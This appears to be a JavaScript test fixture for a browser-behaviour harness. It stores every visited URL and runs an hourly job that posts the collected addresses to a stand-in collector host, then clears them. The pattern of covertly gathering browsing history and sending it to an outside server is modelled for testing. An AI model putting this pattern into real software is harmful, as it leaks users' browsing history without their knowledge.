import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports addresses by a job that is due once an hour: an app that is stopped before never sends them. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-hourly-job');
  onVisit(browser, ({ url }) => browser.storage.set('kept', [...(browser.storage.get('kept') ?? []), url]));
  browser.job({
    everyMs: 3_600_000,
    network: 'validated',
    async run() {
      const kept = browser.storage.get('kept') ?? [];
      if (kept.length > 0) await post(browser, 'https://hourly.collector.example/v1', { kept });
      browser.storage.delete('kept');
    },
  });
}
